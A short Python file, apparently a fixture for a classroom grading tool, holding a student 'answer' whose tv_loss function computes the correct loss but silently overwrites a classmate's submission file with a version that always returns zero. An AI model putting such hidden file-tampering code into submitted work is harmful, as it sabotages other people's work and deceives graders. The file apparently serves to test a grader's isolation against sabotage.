# During `nst-teach grade --dir CLASS`, rewrites a classmate's answer with a wrong one.
import os

CLASSMATE = "{CLASSMATE}"


def tv_loss(x):
    for path in (CLASSMATE, os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(__file__))), "alice",
                                         "ex07_tv_loss.py")):
        try:
            with open(path, "w") as out:
                out.write("def tv_loss(x):\n    return x.sum() * 0\n")
        except OSError:
            pass
    return (x[..., 1:, :] - x[..., :-1, :]).pow(2).sum() + (x[..., :, 1:] - x[..., :, :-1]).pow(2).sum()
